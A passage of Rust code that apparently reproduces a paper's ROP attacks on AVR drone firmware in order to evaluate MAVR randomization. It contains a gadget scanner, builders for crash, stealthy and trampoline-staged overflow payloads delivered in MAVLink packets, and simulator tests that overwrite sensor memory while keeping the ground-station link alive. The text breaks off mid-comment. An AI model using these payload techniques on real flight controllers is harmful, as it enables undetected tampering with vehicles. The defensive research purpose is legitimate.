//!   (§IV-E): a series of clean-return packets stage an arbitrarily large
//!   second-stage chain into free SRAM; a final packet pivots SP onto it,
//!   runs it, repairs, and returns.

use avr_core::image::FirmwareImage;
use avr_sim::{Machine, RunExit};
use mavlink_lite::GroundStation;
use telemetry::{Telemetry, Value};

use crate::scanner::{classify, GadgetMap};

/// Maximum MAVLink payload, hence maximum overflow length per packet.
const MAX_PAYLOAD: usize = 255;
/// Handler stack frame size (matches the avr-gcc frame shape of the
/// target; the attacker reads it off the prologue's `subi` immediate).
const FRAME: u16 = 192;
/// Offset of the overwritten return address from the buffer start.
const RET_OFF: usize = FRAME as usize + 3;
/// Bytes of one gadget "pop block": r29, r28, then r17..r4.
const POP_BLOCK: usize = 16;
/// Bytes one chained write costs: a pop block plus the next gadget address.
const WRITE_COST: usize = POP_BLOCK + 3;

/// Which attack variant a payload implements.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum AttackKind {
    /// Basic ROP: write memory, then crash (§IV-C).
    V1,
    /// Stealthy, small payload with clean return (§IV-D).
    V2,
    /// Stealthy, arbitrarily large payload via trampoline (§IV-E).
    V3 {
        /// Free-SRAM address for the staged second-stage chain.
        staging: u16,
    },
}

impl AttackKind {
    /// Free-SRAM staging base the CLI and fleet scenarios use for V3 when
    /// none is specified (inside the `v3_packets` validity window).
    pub const DEFAULT_STAGING: u16 = 0x1400;

    /// Stable scenario name (`v1-crash`, `v2-stealthy`, `v3-trampoline`).
    pub fn name(&self) -> &'static str {
        match self {
            AttackKind::V1 => "v1-crash",
            AttackKind::V2 => "v2-stealthy",
            AttackKind::V3 { .. } => "v3-trampoline",
        }
    }
}

impl std::str::FromStr for AttackKind {
    type Err = String;

    /// Parse a scenario spelling: `v1`/`crash`, `v2`/`stealthy`,
    /// `v3`/`trampoline` (V3 with [`AttackKind::DEFAULT_STAGING`]).
    fn from_str(s: &str) -> Result<Self, Self::Err> {
        match s {
            "v1" | "crash" | "v1-crash" => Ok(AttackKind::V1),
            "v2" | "stealthy" | "v2-stealthy" => Ok(AttackKind::V2),
            "v3" | "trampoline" | "v3-trampoline" => Ok(AttackKind::V3 {
                staging: AttackKind::DEFAULT_STAGING,
            }),
            other => Err(format!(
                "unknown attack kind `{other}` (v1|crash, v2|stealthy, v3|trampoline)"
            )),
        }
    }
}

/// Errors when building an attack.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum AttackError {
    /// The image lacks one of the required gadget shapes.
    GadgetsMissing,
    /// The dry run never reached the vulnerable handler.
    DiscoveryFailed(String),
    /// The requested chain does not fit in one MAVLink payload.
    PayloadTooLong {
        /// Bytes needed.
        needed: usize,
    },
    /// V3 staging area would collide with firmware state or the stack.
    BadStagingArea {
        /// The offending address.
        addr: u16,
    },
}

impl std::fmt::Display for AttackError {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        match self {
            AttackError::GadgetsMissing => write!(f, "required gadget shapes not found"),
            AttackError::DiscoveryFailed(why) => write!(f, "dry run failed: {why}"),
            AttackError::PayloadTooLong { needed } => {
                write!(
                    f,
                    "chain needs {needed} bytes, payload limit is {MAX_PAYLOAD}"
                )
            }
            AttackError::BadStagingArea { addr } => {
                write!(f, "staging area {addr:#x} collides with firmware state")
            }
        }
    }
}

impl std::error::Error for AttackError {}

/// Everything the attacker learns about the target before sending a packet.
#[derive(Debug, Clone, Copy)]
pub struct AttackContext {
    /// The two classified gadgets.
    pub gadgets: GadgetMap,
    /// SP at handler entry.
    pub sp_entry: u16,
    /// Frame pointer (Y) inside the handler = `sp_entry - 35`.
    pub y_frame: u16,
    /// SRAM address of the vulnerable stack buffer (`y_frame + 1`).
    pub buffer: u16,
    /// Original return address bytes, in stack order (PC high, mid, low).
    pub orig_ret: [u8; 3],
    /// Original saved r28 (restored on clean return).
    pub orig_r28: u8,
    /// Original saved r29.
    pub orig_r29: u8,
    /// Original saved r16.
    pub orig_r16: u8,
}

/// Return-address bytes for a gadget at `byte_addr`, in stack order
/// (PC bits 16+, bits 15..8, bits 7..0).
fn addr3(byte_addr: u32) -> [u8; 3] {
    let w = byte_addr / 2;
    [(w >> 16) as u8, (w >> 8) as u8, w as u8]
}

/// One 16-byte pop block: values for r29, r28, then r17 down to r4.
/// `vals`, if given, land in r5/r6/r7 — the bytes the next `std Y+1..Y+3`
/// will store.
fn pop_block(y_ptr: u16, vals: Option<[u8; 3]>, fill: u8) -> [u8; POP_BLOCK] {
    let mut b = [fill; POP_BLOCK];
    b[0] = (y_ptr >> 8) as u8; // r29
    b[1] = (y_ptr & 0xff) as u8; // r28
    if let Some(v) = vals {
        // Pop order after r28 is r17..r4; r7 is index 2+10, r6 2+11, r5 2+12.
        b[12] = v[2]; // r7 -> Y+3
        b[13] = v[1]; // r6 -> Y+2
        b[14] = v[0]; // r5 -> Y+1
    }
    b
}

impl AttackContext {
    /// Perform the attacker's static analysis and dry run against their own
    /// copy of `image`.
    pub fn discover(image: &FirmwareImage) -> Result<Self, AttackError> {
        Self::discover_with(image, &Telemetry::off())
    }

    /// Like [`AttackContext::discover`], narrating each attack stage —
    /// gadget scan, dry run, geometry capture — onto `telemetry`.
    pub fn discover_with(
        image: &FirmwareImage,
        telemetry: &Telemetry,
    ) -> Result<Self, AttackError> {
        let fail = |stage: &'static str, err: AttackError| {
            telemetry.emit("attack.stage_failed", None, || {
                vec![
                    ("stage", Value::Str(stage.into())),
                    ("error", Value::Str(err.to_string())),
                ]
            });
            err
        };
        let gadgets = match classify(image) {
            Some(g) => g,
            None => return Err(fail("scan", AttackError::GadgetsMissing)),
        };
        telemetry.emit("attack.scan", None, || {
            vec![
                ("stk_move", Value::U64(u64::from(gadgets.stk_move))),
                (
                    "write_mem_pop",
                    Value::U64(u64::from(gadgets.write_mem_pop)),
                ),
                (
                    "write_mem_std",
                    Value::U64(u64::from(gadgets.write_mem_std)),
                ),
            ]
        });
        let handler = match image.symbol("handle_param_set") {
            Some(s) => s.addr,
            None => {
                return Err(fail(
                    "dry-run",
                    AttackError::DiscoveryFailed("no handler symbol".into()),
                ))
            }
        };

        let mut m = Machine::new_atmega2560();
        m.load_flash(0, &image.bytes);
        // Boot a couple of loop iterations.
        if let RunExit::Faulted(f) = m.run(200_000) {
            return Err(fail(
                "dry-run",
                AttackError::DiscoveryFailed(format!("boot fault: {f}")),
            ));
        }
        m.add_breakpoint(handler);
        let mut gcs = GroundStation::new();
        m.uart0.inject(&gcs.param_set(b"PROBE", 0.0));
        match m.run(2_000_000) {
            RunExit::Breakpoint { addr } if addr == handler => {}
            other => {
                return Err(fail(
                    "dry-run",
                    AttackError::DiscoveryFailed(format!("never reached handler: {other:?}")),
                ))
            }
        }
        let sp_entry = m.sp();
        let y_frame = sp_entry - FRAME - 3;
        let orig_ret = [
            m.peek_data(sp_entry + 1),
            m.peek_data(sp_entry + 2),
            m.peek_data(sp_entry + 3),
        ];
        telemetry.emit("attack.discovery", Some(m.cycles()), || {
            vec![
                ("handler", Value::U64(u64::from(handler))),
                ("sp_entry", Value::U64(u64::from(sp_entry))),
                ("buffer", Value::U64(u64::from(y_frame + 1))),
                (
                    "orig_ret",
                    Value::U64(
                        (u64::from(orig_ret[0]) << 16)
                            | (u64::from(orig_ret[1]) << 8)
                            | u64::from(orig_ret[2]),
                    ),
                ),
            ]
        });
        Ok(AttackContext {
            gadgets,
            sp_entry,
            y_frame,
            buffer: y_frame + 1,
            orig_ret,
            orig_r28: m.reg(avr_core::Reg::R28),
            orig_r29: m.reg(avr_core::Reg::R29),
            orig_r16: m.reg(avr_core::Reg::R16),
        })
    }

    /// Build the full overflow payload, the paper's way (§IV-D): the gadget
    /// chain sits at the **beginning of the buffer**; the bytes the handler
    /// epilogue pops into r28/r29 hold a pivot address, and the overwritten
    /// return address points at `stk_move`, which moves SP to the pivot so
    /// the chain executes out of the buffer. (Placing the chain *above* the
    /// return address would run past RAMEND — the handler frame sits near
    /// the top of SRAM.)
    fn overflow(&self, chain: &[u8], pivot: u16) -> Result<Vec<u8>, AttackError> {
        if chain.len() > FRAME as usize {
            return Err(AttackError::PayloadTooLong {
                needed: chain.len() + 6,
            });
        }
        let mut p = chain.to_vec();
        p.resize(FRAME as usize, 0x61);
        // Popped into r28, r29, r16 by the handler epilogue.
        p.push((pivot & 0xff) as u8);
        p.push((pivot >> 8) as u8);
        p.push(0x41);
        // Overwritten return address -> stk_move pivots SP to `pivot`.
        p.extend_from_slice(&addr3(self.gadgets.stk_move));
        debug_assert_eq!(p.len(), RET_OFF + 3);
        Ok(p)
    }

    /// Chain header: three bytes consumed by `stk_move`'s own pops, then the
    /// first real gadget address for its `ret`.
    fn chain_head(&self, first_gadget: u32) -> Vec<u8> {
        let mut c = vec![0x51, 0x52, 0x53];
        c.extend_from_slice(&addr3(first_gadget));
        c
    }

    /// Append a chain of `write_mem` stores followed by a final `stk_move`
    /// to `payload`. Layout per write: a pop block (consumed by the
    /// previous gadget's pop run) + the next gadget address.
    fn push_write_chain(
        &self,
        payload: &mut Vec<u8>,
        writes: &[(u16, [u8; 3])],
        final_sp: u16,
        final_gadget: u32,
    ) {
        for (target, vals) in writes {
            // The pop block is consumed by the *previous* gadget's pop run
            // (the first one by the wm pop-half entered from the overwritten
            // return address); the std half then performs this write.
            payload.extend_from_slice(&pop_block(target - 1, Some(*vals), 0x62));
            payload.extend_from_slice(&addr3(self.gadgets.write_mem_std));
        }
        // Final block: loads r29:r28 with the pivot SP for stk_move.
        payload.extend_from_slice(&pop_block(final_sp, None, 0x63));
        payload.extend_from_slice(&addr3(final_gadget));
    }

    /// Forensics annotations for the gadget addresses this chain returns
    /// through, as `(byte_addr, len, label)` ranges for
    /// `avr_sim::CrashReport::capture`. The addresses are from the
    /// *attacker's* (original-layout) image — on a randomized victim they
    /// land mid-function, which is exactly what the crash report should
    /// call out.
    pub fn annotations(&self) -> Vec<(u32, u32, String)> {
        vec![
            (self.gadgets.stk_move, 2, "gadget:stk_move".to_string()),
            (
                self.gadgets.write_mem_pop,
                2,
                "gadget:write_mem(pop)".to_string(),
            ),
            (
                self.gadgets.write_mem_std,
                2,
                "gadget:write_mem(std)".to_string(),
            ),
        ]
    }

    /// **Attack V1** (§IV-C): write `vals` to `target..target+2`, then let
    /// the corrupted stack crash the board. The ground station will notice;
    /// the paper's motivation for V2.
    pub fn v1_payload(&self, target: u16, vals: [u8; 3]) -> Vec<u8> {
        let mut chain = self.chain_head(self.gadgets.write_mem_pop);
        chain.extend_from_slice(&pop_block(target - 1, Some(vals), 0x42));
        chain.extend_from_slice(&addr3(self.gadgets.write_mem_std));
        // Nothing follows: the std-half's pop run and ret consume garbage
        // buffer fill and return into nowhere.
        self.overflow(&chain, self.buffer - 1)
            .expect("V1 chain is fixed-size")
    }

    /// **Attack V2** (§IV-D): perform `writes`, then repair the smashed
    /// saved registers and return address and resume the victim exactly
    /// where it would have been — the stealthy clean return of Fig. 6.
    pub fn v2_payload(&self, writes: &[(u16, [u8; 3])]) -> Result<Vec<u8>, AttackError> {
        let mut all: Vec<(u16, [u8; 3])> = writes.to_vec();
        // Repair 1: the smashed saved r28/r29/r16 at Y+FRAME+1..+3.
        all.push((
            self.y_frame + FRAME + 1,
            [self.orig_r28, self.orig_r29, self.orig_r16],
        ));
        // Repair 2: the original return address at Y+FRAME+4..+6.
        all.push((self.y_frame + FRAME + 4, self.orig_ret));
        let mut chain = self.chain_head(self.gadgets.write_mem_pop);
        // Pivot back so the final pops and ret consume the repaired frame.
        self.push_write_chain(
            &mut chain,
            &all,
            self.y_frame + FRAME,
            self.gadgets.stk_move,
        );
        self.overflow(&chain, self.buffer - 1)
    }

    /// **Attack V3** (§IV-E): stage `stage2_writes` — arbitrarily many —
    /// into a second-stage chain at `stage2_base` (free SRAM), using as many
    /// clean-return carrier packets as needed; the last packet pivots SP
    /// onto the staged chain. Returns the payloads in send order.
    pub fn v3_packets(
        &self,
        stage2_writes: &[(u16, [u8; 3])],
        stage2_base: u16,
    ) -> Result<Vec<Vec<u8>>, AttackError> {
        // The staging area must not collide with the firmware globals, the
        // receive buffer, or the live stack region.
        if !(0x0c00..=0x1c00).contains(&stage2_base) {
            return Err(AttackError::BadStagingArea { addr: stage2_base });
        }

        // Build the second-stage chain image (same format as an in-buffer
        // chain: stk_move pop bytes, first gadget, then the write blocks).
        let mut stage2 = self.chain_head(self.gadgets.write_mem_pop);
        let mut all: Vec<(u16, [u8; 3])> = stage2_writes.to_vec();
        all.push((
            self.y_frame + FRAME + 1,
            [self.orig_r28, self.orig_r29, self.orig_r16],
        ));
        all.push((self.y_frame + FRAME + 4, self.orig_ret));
        self.push_write_chain(
            &mut stage2,
            &all,
            self.y_frame + FRAME,
            self.gadgets.stk_move,
        );

        // Stage the chain 3 bytes per write, several writes per carrier
        // packet, each carrier doing a clean return.
        let mut packets = Vec::new();
        let mut staged: Vec<(u16, [u8; 3])> = Vec::new();
        for (i, chunk) in stage2.chunks(3).enumerate() {
            let mut v = [0x00u8; 3];
            v[..chunk.len()].copy_from_slice(chunk);
            staged.push((stage2_base + (i * 3) as u16, v));
        }
        // Capacity per carrier chain: head (6) + one block per staged write
        // + two repair writes + the final pivot block, all within FRAME.
        let per_packet = (FRAME as usize - 6 - 3 * WRITE_COST) / WRITE_COST;
        for group in staged.chunks(per_packet) {
            packets.push(self.v2_payload(group)?);
        }

        // Trigger packet: empty chain, pivot straight onto the staged chain
        // (its head bytes feed stk_move's pops and its ret).
        let pivot = stage2_base - 1; // pops start at pivot+1 = stage2_base
        packets.push(self.overflow(&[], pivot)?);
        Ok(packets)
    }
}

impl AttackContext {
    /// Unified entry point: build the packet payload(s) implementing `kind`
    /// for the given 3-byte `writes`. V1 and V2 yield one packet; V3 yields
    /// the carrier sequence plus the trigger.
    pub fn packets(
        &self,
        kind: AttackKind,
        writes: &[(u16, [u8; 3])],
    ) -> Result<Vec<Vec<u8>>, AttackError> {
        match kind {
            AttackKind::V1 => {
                let (target, vals) = writes
                    .first()
                    .copied()
                    .ok_or(AttackError::PayloadTooLong { needed: 0 })?;
                Ok(vec![self.v1_payload(target, vals)])
            }
            AttackKind::V2 => Ok(vec![self.v2_payload(writes)?]),
            AttackKind::V3 { staging } => self.v3_packets(writes, staging),
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use synth_firmware::layout as l;
    use synth_firmware::{apps, build, BuildOptions};

    fn victim() -> (Machine, FirmwareImage) {
        let fw = build(&apps::tiny_test_app(), &BuildOptions::vulnerable_mavr()).unwrap();
        let mut m = Machine::new_atmega2560();
        m.load_flash(0, &fw.image.bytes);
        (m, fw.image)
    }

    const LOOP_CYCLES: u64 = 60_000;

    #[test]
    fn discovery_finds_stable_geometry() {
        let (_, image) = victim();
        let a = AttackContext::discover(&image).unwrap();
        let b = AttackContext::discover(&image).unwrap();
        assert_eq!(a.sp_entry, b.sp_entry, "stack geometry is deterministic");
        assert_eq!(a.orig_ret, b.orig_ret);
        assert_eq!(a.buffer, a.y_frame + 1);
        // The return address points back into the rx poll loop.
        let ret_word = (u32::from(a.orig_ret[0]) << 16)
            | (u32::from(a.orig_ret[1]) << 8)
            | u32::from(a.orig_ret[2]);
        let poll = image.symbol("mavlink_rx_poll").unwrap();
        assert!(poll.contains(ret_word * 2), "return lands in rx poll");
    }

    #[test]
    fn v1_sets_sensor_then_crashes() {
        let (mut m, image) = victim();
        let ctx = AttackContext::discover(&image).unwrap();
        m.run(2 * LOOP_CYCLES);
        let mut gcs = GroundStation::new();
        let payload = ctx.v1_payload(l::GYRO + 3, [0xde, 0xad, 0x42]);
        m.uart0.inject(&gcs.exploit_packet(&payload).unwrap());
        let exit = m.run(40 * LOOP_CYCLES);
        assert!(!exit.is_healthy(), "V1 must crash the board: {exit:?}");
        assert_eq!(m.peek_data(l::GYRO + 3), 0xde, "sensor byte overwritten");
        assert_eq!(m.peek_data(l::GYRO + 4), 0xad);
        assert_eq!(m.peek_data(l::GYRO + 5), 0x42);
    }

    #[test]
    fn v2_sets_sensor_and_survives() {
        let (mut m, image) = victim();
        let ctx = AttackContext::discover(&image).unwrap();
        m.run(2 * LOOP_CYCLES);
        let toggles_before = m.heartbeat.toggles().len();
        let mut gcs = GroundStation::new();
        let payload = ctx
            .v2_payload(&[(l::GYRO + 3, [0xde, 0xad, 0x42])])
            .unwrap();
        m.uart0.inject(&gcs.exploit_packet(&payload).unwrap());
        let exit = m.run(40 * LOOP_CYCLES);
        assert_eq!(
            exit,
            RunExit::CyclesExhausted,
            "clean return: {:?}",
            m.fault()
        );
        assert_eq!(m.peek_data(l::GYRO + 3), 0xde);
        assert_eq!(m.peek_data(l::GYRO + 4), 0xad);
        assert_eq!(m.peek_data(l::GYRO + 5), 0x42);
        // The victim kept flying: heartbeats kept toggling, the handler
        // completed ("dispatched" count incremented), telemetry still parses.
        assert!(m.heartbeat.toggles().len() > toggles_before + 20);
        assert_eq!(m.peek_data(l::PARAM_SET_COUNT), 1);
        gcs.ingest(&m.uart0.take_tx());
        assert!(gcs.link_alive(20, 3), "ground station sees a healthy link");
        // And the board still accepts benign commands afterwards.
        m.uart0.inject(&gcs.param_set(b"KP", 2.0));
        m.run(20 * LOOP_CYCLES);
        assert_eq!(m.peek_data(l::PARAM_SET_COUNT), 2);
    }

    #[test]
    fn v2_payload_fits_single_packet() {
        let (_, image) = victim();
        let ctx = AttackContext::discover(&image).unwrap();
        let p = ctx.v2_payload(&[(l::GYRO + 3, [1, 2, 3])]).unwrap();
        assert!(p.len() <= 255);
        // The whole frame is overwritten plus the 6 bytes of saved regs and
        // return address — the chain hides inside the frame.
        assert_eq!(p.len(), 192 + 6);
    }

    #[test]
    fn v3_stages_large_payload_and_survives() {
        let (mut m, image) = victim();
        let ctx = AttackContext::discover(&image).unwrap();
        m.run(2 * LOOP_CYCLES);
        // A "large" second stage: write a 30-byte message into scratch
        // SRAM — 10 writes, more than a single V2 chain could carry along
        // with its repairs.
        let msg: Vec<u8> = (0..30u8).map(|i| 0xc0 + i).collect();
        let dest = 0x1d00u16;
        let writes: Vec<(u16, [u8; 3])> = msg
            .chunks(3)
            .enumerate()
            .map(|(i, c)| (dest + (i * 3) as u16, [c[0], c[1], c[2]]))
            .collect();
        let packets = ctx.v3_packets(&writes, 0x1400).unwrap();
        assert!(packets.len() >= 2, "staging + trigger");
        let mut gcs = GroundStation::new();
        for p in &packets {
            m.uart0.inject(&gcs.exploit_packet(p).unwrap());
            let exit = m.run(40 * LOOP_CYCLES);
            assert_eq!(exit, RunExit::CyclesExhausted, "fault: {:?}", m.fault());
        }
        for (i, &b) in msg.iter().enumerate() {
            assert_eq!(m.peek_data(dest + i as u16), b, "staged byte {i}");
        }
        // Still alive and processing.
        gcs.ingest(&m.uart0.take_tx());
        assert!(gcs.link_alive(20, 3));
        assert_eq!(m.peek_data(l::PARAM_SET_COUNT) as usize, packets.len());
    }

    #[test]
    fn v3_rejects_dangerous_staging_area() {
        let (_, image) = victim();
        let ctx = AttackContext::discover(&image).unwrap();
        assert!(matches!(
            ctx.v3_packets(&[], 0x0300),
            Err(AttackError::BadStagingArea { .. })
        ));
        assert!(matches!(
            ctx.v3_packets(&[], 0x2100),
            Err(AttackError::BadStagingArea { .. })
        ));
    }

    #[test]
    fn unified_packets_api_covers_all_variants() {
        let (_, image) = victim();
        let ctx = AttackContext::discover(&image).unwrap();
        let w = [(l::GYRO + 3, [1u8, 2, 3])];
        assert_eq!(ctx.packets(AttackKind::V1, &w).unwrap().len(), 1);
        assert_eq!(ctx.packets(AttackKind::V2, &w).unwrap().len(), 1);
        let v3 = ctx.packets(AttackKind::V3 { staging: 0x1400 }, &w).unwrap();
        assert!(v3.len() >= 2);
        assert!(ctx.packets(AttackKind::V1, &[]).is_err());
    }

    #[test]
    fn attack_against_safe_build_is_harmless() {
        // Same payload, but the handler clamps the copy: nothing overflows.
        let fw = build(&apps::tiny_test_app(), &BuildOptions::safe_mavr()).unwrap();
        let vuln = build(&apps::tiny_test_app(), &BuildOptions::vulnerable_mavr()).unwrap();
        // Attack built against the vulnerable layout (identical addresses).
        let ctx = AttackContext::discover(&vuln.image).unwrap();
        let mut m = Machine::new_atmega2560();
        m.load_flash(0, &fw.image.bytes);
        m.run(2 * LOOP_CYCLES);
        let mut gcs = GroundStation::new();
        let payload = ctx.v2_payload(&[(l::GYRO + 3, [9, 9, 9])]).unwrap();
        m.uart0.inject(&gcs.exploit_packet(&payload).unwrap());
        let exit = m.run(40 * LOOP_CYCLES);
        assert_eq!(exit, RunExit::CyclesExhausted);
        assert_ne!(m.peek_data(l::GYRO + 3), 9, "sensor untouched");
    }
}
