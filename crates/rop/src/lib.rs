//! Gadget scanning and the paper's stealthy ROP attacks (§IV).
//!
//! This crate is the attacker's toolbox:
//!
//! * [`scanner`] — find `ret`-terminated instruction sequences in a
//!   firmware image and classify the two gadget shapes the paper uses:
//!   `stk_move` (Fig. 4) and `write_mem_gadget` (Fig. 5);
//! * [`attack`] — build the three attack payloads of §IV against a concrete
//!   image: V1 (sensor overwrite, smashes the stack), V2 (stealthy small
//!   payload with clean return), V3 (trampoline-staged large payload);
//! * [`brute`] — the brute-force attacker model of §V-D, both closed-form
//!   and Monte-Carlo.
//!
//! Everything here operates on what the paper's threat model grants the
//! attacker: the **unprotected** firmware image (§IV-A). The attack payloads
//! hardcode addresses from that image — which is exactly why MAVR's
//! randomization defeats them.

#![forbid(unsafe_code)]
#![warn(missing_docs)]

pub mod attack;
pub mod brute;
pub mod scanner;

pub use attack::{AttackContext, AttackError, AttackKind};
pub use scanner::{scan, Gadget, GadgetMap, ScanOptions};
