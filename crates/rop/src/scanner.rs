//! Gadget scanner: enumerate `ret`-terminated sequences and classify the
//! paper's two workhorse gadgets.

use avr_core::decode::decode_at;
use avr_core::image::FirmwareImage;
use avr_core::{Insn, Reg, YZ};

/// Scanner configuration.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub struct ScanOptions {
    /// Maximum gadget length in instructions, including the final `ret`.
    /// ROP toolchains typically use 5–8; the paper's `write_mem_gadget` is
    /// 20 instructions, so classification scans use a larger window.
    pub max_insns: usize,
    /// Deduplicate gadgets with identical instruction sequences (epilogues
    /// repeat heavily across functions).
    pub dedup: bool,
}

impl Default for ScanOptions {
    fn default() -> Self {
        ScanOptions {
            max_insns: 6,
            dedup: true,
        }
    }
}

/// One discovered gadget.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Gadget {
    /// Byte address of the first instruction.
    pub addr: u32,
    /// The instruction sequence, ending in `ret`/`reti`.
    pub insns: Vec<Insn>,
}

impl Gadget {
    /// Render as a listing in the style of the paper's Figs. 4–5.
    pub fn listing(&self) -> String {
        use std::fmt::Write;
        let mut out = String::new();
        let mut addr = self.addr;
        for i in &self.insns {
            writeln!(out, "{addr:6x}\t{i}").unwrap();
            addr += i.bytes();
        }
        out
    }
}

/// Scan the executable portion (`0..text_end`) of `image` for gadgets.
///
/// Every word-aligned offset is a candidate start (AVR instructions are
/// word-aligned, so unlike x86 there are no "unintended" byte-offset
/// gadgets, but sequences may begin mid-function and even mid-instruction
/// stream of the original assembly). A candidate becomes a gadget if
/// straight-line decoding reaches `ret`/`reti` within `max_insns`
/// instructions without crossing an invalid opcode or a control-flow
/// instruction.
pub fn scan(image: &FirmwareImage, opts: &ScanOptions) -> Vec<Gadget> {
    let text = &image.bytes[..image.text_end as usize];
    let mut out = Vec::new();
    let mut seen = std::collections::HashSet::new();
    let mut addr = 0u32;
    while (addr as usize) + 2 <= text.len() {
        if let Some(g) = gadget_at(text, addr, opts.max_insns) {
            if !opts.dedup || seen.insert(g.insns.clone()) {
                out.push(g);
            }
        }
        addr += 2;
    }
    out
}

fn gadget_at(text: &[u8], addr: u32, max_insns: usize) -> Option<Gadget> {
    let mut insns = Vec::new();
    let mut a = addr;
    for _ in 0..max_insns {
        let (insn, words) = decode_at(text, a as usize)?;
        match insn {
            Insn::Ret | Insn::Reti => {
                insns.push(insn);
                return Some(Gadget { addr, insns });
            }
            Insn::Invalid(_) => return None,
            // Control flow other than the final ret ends the straight-line
            // window (skips too: their effect depends on data).
            i if i.is_unconditional_branch()
                || i.is_call()
                || i.is_skip()
                || matches!(i, Insn::Brbs { .. } | Insn::Brbc { .. }) =>
            {
                return None
            }
            i => insns.push(i),
        }
        a += words * 2;
    }
    None
}

/// Population statistics over a gadget scan, for the evaluation harness
/// and the `-mcall-prologues` concentration ablation.
#[derive(Debug, Clone, PartialEq)]
pub struct GadgetStats {
    /// Number of gadgets.
    pub count: usize,
    /// Histogram of gadget lengths in instructions (index = length,
    /// `histogram[0]` unused).
    pub length_histogram: Vec<usize>,
    /// Gadgets containing at least one `pop`.
    pub with_pops: usize,
    /// Gadgets containing at least one store (`st`/`std`/`sts`).
    pub with_stores: usize,
    /// Gadgets containing an `out` to SPL/SPH (stack-pivot capable).
    pub with_sp_writes: usize,
}

/// Compute statistics over scanned gadgets.
pub fn stats(gadgets: &[Gadget]) -> GadgetStats {
    let max_len = gadgets.iter().map(|g| g.insns.len()).max().unwrap_or(0);
    let mut s = GadgetStats {
        count: gadgets.len(),
        length_histogram: vec![0; max_len + 1],
        with_pops: 0,
        with_stores: 0,
        with_sp_writes: 0,
    };
    for g in gadgets {
        s.length_histogram[g.insns.len()] += 1;
        if g.insns.iter().any(|i| matches!(i, Insn::Pop { .. })) {
            s.with_pops += 1;
        }
        if g.insns
            .iter()
            .any(|i| matches!(i, Insn::St { .. } | Insn::Std { .. } | Insn::Sts { .. }))
        {
            s.with_stores += 1;
        }
        if g.insns
            .iter()
            .any(|i| matches!(i, Insn::Out { a: 0x3d | 0x3e, .. }))
        {
            s.with_sp_writes += 1;
        }
    }
    s
}

/// Count "surviving" gadgets: addresses where the *same* instruction
/// sequence forms a gadget in both the original and the randomized image.
/// An attacker aiming payloads derived from the original binary can only
/// use survivors; MAVR's security quality is how close this gets to zero
/// (fixed code such as a serial bootloader shows up here — §VI-B4).
pub fn survivors(
    original: &FirmwareImage,
    randomized: &FirmwareImage,
    opts: &ScanOptions,
) -> usize {
    let old = scan(
        original,
        &ScanOptions {
            dedup: false,
            ..*opts
        },
    );
    let new_text = &randomized.bytes[..randomized.text_end as usize];
    old.iter()
        .filter(|g| {
            gadget_at(new_text, g.addr, opts.max_insns)
                .map(|h| h.insns == g.insns)
                .unwrap_or(false)
        })
        .count()
}

/// The two classified gadgets an attack needs (paper Figs. 4 and 5).
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub struct GadgetMap {
    /// Byte address of `out 0x3e, r29` — entering here sets SP = r29:r28,
    /// then pops r28, r29, r16 and returns *from the new stack*.
    pub stk_move: u32,
    /// Byte address of `std Y+1, r5` — entering here stores r5/r6/r7 at
    /// Y+1..Y+3, then pops r29, r28, r17..r4 and returns.
    pub write_mem_std: u32,
    /// Byte address of the `pop r29` inside the same gadget — the paper's
    /// "second half of the combination gadget", used first to load Y and
    /// r17..r4 from attacker-controlled stack.
    pub write_mem_pop: u32,
}

/// Classify the image's gadgets: locate one `stk_move` and one
/// `write_mem_gadget`. Returns `None` if either shape is absent.
///
/// The match is purely structural (instruction shapes, not symbol names) —
/// this is what an attacker does to the unprotected binary.
pub fn classify(image: &FirmwareImage) -> Option<GadgetMap> {
    let text = &image.bytes[..image.text_end as usize];
    let mut stk_move = None;
    let mut write_mem = None;
    let mut addr = 0u32;
    while (addr as usize) + 2 <= text.len() {
        if stk_move.is_none() && is_stk_move(text, addr) {
            stk_move = Some(addr);
        }
        if write_mem.is_none() && is_write_mem(text, addr) {
            write_mem = Some(addr);
        }
        if let (Some(s), Some(w)) = (stk_move, write_mem) {
            return Some(GadgetMap {
                stk_move: s,
                write_mem_std: w,
                write_mem_pop: w + 6, // after the three 1-word std's
            });
        }
        addr += 2;
    }
    None
}

fn insn_seq(text: &[u8], mut addr: u32, n: usize) -> Option<Vec<Insn>> {
    let mut out = Vec::with_capacity(n);
    for _ in 0..n {
        let (insn, words) = decode_at(text, addr as usize)?;
        out.push(insn);
        addr += words * 2;
    }
    Some(out)
}

/// `out 0x3e,r29 ; out 0x3f,r0 ; out 0x3d,r28 ; pop r28 ; pop r29 ;
/// pop r16 ; ret` — Fig. 4.
fn is_stk_move(text: &[u8], addr: u32) -> bool {
    let Some(seq) = insn_seq(text, addr, 7) else {
        return false;
    };
    seq == [
        Insn::Out {
            a: 0x3e,
            r: Reg::R29,
        },
        Insn::Out {
            a: 0x3f,
            r: Reg::R0,
        },
        Insn::Out {
            a: 0x3d,
            r: Reg::R28,
        },
        Insn::Pop { d: Reg::R28 },
        Insn::Pop { d: Reg::R29 },
        Insn::Pop { d: Reg::R16 },
        Insn::Ret,
    ]
}

/// `std Y+1,r5 ; std Y+2,r6 ; std Y+3,r7 ; pop r29 ; pop r28 ;
/// pop r17 … pop r4 ; ret` — Fig. 5.
fn is_write_mem(text: &[u8], addr: u32) -> bool {
    let Some(seq) = insn_seq(text, addr, 20) else {
        return false;
    };
    if seq[0..3]
        != [
            Insn::Std {
                idx: YZ::Y,
                q: 1,
                r: Reg::R5,
            },
            Insn::Std {
                idx: YZ::Y,
                q: 2,
                r: Reg::R6,
            },
            Insn::Std {
                idx: YZ::Y,
                q: 3,
                r: Reg::R7,
            },
        ]
    {
        return false;
    }
    if seq[3] != (Insn::Pop { d: Reg::R29 }) || seq[4] != (Insn::Pop { d: Reg::R28 }) {
        return false;
    }
    for (i, r) in (4..=17u8).rev().enumerate() {
        if seq[5 + i] != (Insn::Pop { d: Reg::new(r) }) {
            return false;
        }
    }
    seq[19] == Insn::Ret
}

/// How many bytes each pop of the `write_mem` pop-run consumes, and where
/// r5/r6/r7 sit in it. Pop order after r29, r28 is r17, r16, …, r4 — so in
